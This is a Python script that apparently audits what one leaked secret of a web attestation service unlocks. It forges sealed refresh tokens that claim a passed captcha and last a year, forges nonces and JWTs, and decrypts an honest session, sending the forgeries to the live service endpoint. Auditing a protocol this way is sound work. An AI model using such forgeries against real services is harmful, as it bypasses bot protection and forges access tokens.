"""What a secret opens, tried with other people's cryptography and no code of ours.

Usage: python forge.py ATTEMPT.json

ATTEMPT.json says where the service is, what a backend and a page know (site key, public keys, a refresh token and a nonce of
an honest session), and one secret. Everything that PROTOCOL.md says follows from the service's own secret is tried with that
one, and so is what followed from the account's secret before. Prints one line for each attempt: `worked` or `refused`, and why.
"""

import base64
import hashlib
import json
import secrets
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

import jwt
from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives import hashes, hmac
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.ciphers.aead import AESGCMSIV
from cryptography.hazmat.primitives.kdf.hkdf import HKDF
from cryptography.hazmat.primitives.serialization import load_pem_public_key

SALT = b"approov-web-service"
DAY = 86_400_000


def encode(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decode(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def derive(secret, info):
    return HKDF(hashes.SHA256(), 32, SALT, info).derive(secret)


class Sealing:
    """A way in which refresh tokens may be sealed: head, key and associated data."""

    def __init__(self, name, head, key, associated):
        self.name, self.head, self.key, self.associated = name, head, AESGCMSIV(key), associated

    def seal(self, session):
        nonce = secrets.token_bytes(12)
        return encode(self.head + nonce + self.key.encrypt(nonce, json.dumps(session).encode(), self.associated))

    def open(self, token):
        body = decode(token)[len(self.head):]
        return json.loads(self.key.decrypt(body[:12], body[12:], self.associated))


def sealings(secret, site_key, refresh_token):
    site = site_key.encode()
    yield Sealing("format 1", b"\x01", derive(secret, b"approov-web-service refresh token v1"), site)
    key = derive(secret, b"approov-web-service refresh token v2:" + site)
    ids = [derive(secret, b"approov-web-service refresh token id v2:" + site)[:4], decode(refresh_token)[1:5]]
    for name, key_id in zip(("its own key id", "the service's key id"), ids):
        head = b"\x02" + key_id
        yield Sealing(f"format 2, {name}", head, key, head + site)


class Browser:
    """A session's key, and its requests."""

    def __init__(self, url):
        self.url, self.key = url, ec.generate_private_key(ec.SECP256R1())
        numbers = self.key.public_key().public_numbers()
        x, y = (encode(number.to_bytes(32, "big")) for number in (numbers.x, numbers.y))
        self.jwk = {"crv": "P-256", "kty": "EC", "x": x, "y": y}
        # RFC 7638: the members in the order of their names, no white space.
        self.thumbprint = encode(hashlib.sha256(json.dumps(self.jwk, separators=(",", ":")).encode()).digest())
        self.nonce = None

    def request(self, method, form=None, nonce=None):
        claims = {"htm": method, "htu": GIVEN["htu"], "jti": secrets.token_urlsafe(16), "iat": int(time.time())}
        if nonce or self.nonce:
            claims["nonce"] = nonce or self.nonce
        proof = jwt.encode(claims, self.key, "ES256", headers={"typ": "dpop+jwt", "jwk": self.jwk})
        body = urllib.parse.urlencode(form).encode() if form else None
        request = urllib.request.Request(self.url, body, {"DPoP": proof}, method=method)
        try:
            response = urllib.request.urlopen(request, timeout=10)
        except urllib.error.HTTPError as error:
            response = error
        self.nonce = response.headers["DPoP-Nonce"]
        text = response.read()
        return response.status, json.loads(text) if text else {}


def session(thumbprint):
    """A session that passed everything and lasts a year."""
    end = int(time.time() * 1000) + 365 * DAY
    result = {"p": "hcap", "s": GIVEN["hcaptcha_site_key"], "d": "AAAAAAAAAAAAAAAAAAAAAA", "e": end, "o": 1, "b": {}, "w": "0000"}
    begun = int(time.time() * 1000)
    return {"i": encode(bytes(16)), "t": begun, "g": 1, "k": thumbprint, "e": end, "r": [result]}


def refresh_tokens():
    for sealing in sealings(SECRET, GIVEN["site_key"], GIVEN["refresh_token"]):
        browser = Browser(GIVEN["url"])
        browser.request("GET")
        forged = sealing.seal(session(browser.thumbprint))
        form = {"approov-site-key": GIVEN["site_key"], "api": GIVEN["keyset_api"], "refresh-token": forged}
        status, body = browser.request("POST", form)
        worked = status == 200
        if worked:
            token = body["tokens"][GIVEN["keyset_api"]]
            public_key = load_pem_public_key(GIVEN["public_key"].encode())
            # A token of the API whose key the attacker does not have.
            jwt.decode(token, public_key, ["ES256"], options={"verify_aud": False})
        yield f"a refresh token, {sealing.name}", worked, status if worked else list(body)


def nonces():
    stamp = decode(GIVEN["nonce"])
    for version in ("v1", "v2"):
        key = derive(SECRET, f"approov-web-service nonce {version}".encode())
        body = int(time.time() * 1000).to_bytes(8, "big") + stamp[8:16] + secrets.token_bytes(8)
        tag = hmac.HMAC(key, hashes.SHA256())
        tag.update(body)
        browser = Browser(GIVEN["url"])
        form = {"approov-site-key": GIVEN["site_key"], "api": GIVEN["keyset_api"], "refresh-token": "x"}
        _, body = browser.request("POST", form, encode(body + tag.finalize()[:16]))
        yield f"a nonce, {version}", "aprv-invalid-nonce" not in body, list(body)


def keyset_tokens():
    claims = {"exp": int(time.time()) + 600, "cnf": {"jkt": Browser(GIVEN["url"]).thumbprint}, "embed": {}}
    headers = {"kid": GIVEN["kid"]}
    own = ec.generate_private_key(ec.SECP256R1())
    forged = {
        "signed with the secret": jwt.encode(claims, SECRET, "HS256", headers=headers),
        "signed with a key of one's own": jwt.encode(claims, own, "ES256", headers=headers),
    }
    public_key = load_pem_public_key(GIVEN["public_key"].encode())
    for name, token in forged.items():
        try:
            jwt.decode(token, public_key, ["ES256"], options={"verify_aud": False})
            yield f"a token of the keyset API, {name}", True, ""
        except jwt.InvalidTokenError as error:
            yield f"a token of the keyset API, {name}", False, type(error).__name__


def sealed_sessions():
    for sealing in sealings(SECRET, GIVEN["site_key"], GIVEN["refresh_token"]):
        try:
            opened = sealing.open(GIVEN["refresh_token"])
            yield f"reading a session, {sealing.name}", True, sorted(opened)
        except InvalidTag as error:
            yield f"reading a session, {sealing.name}", False, type(error).__name__


with open(sys.argv[1]) as file:
    GIVEN = json.load(file)
SECRET = base64.b64decode(GIVEN["secret"])
for attempts in (refresh_tokens, nonces, keyset_tokens, sealed_sessions):
    for attempt, worked, why in attempts():
        print(f"{'worked' if worked else 'refused'}: {attempt}: {why}")
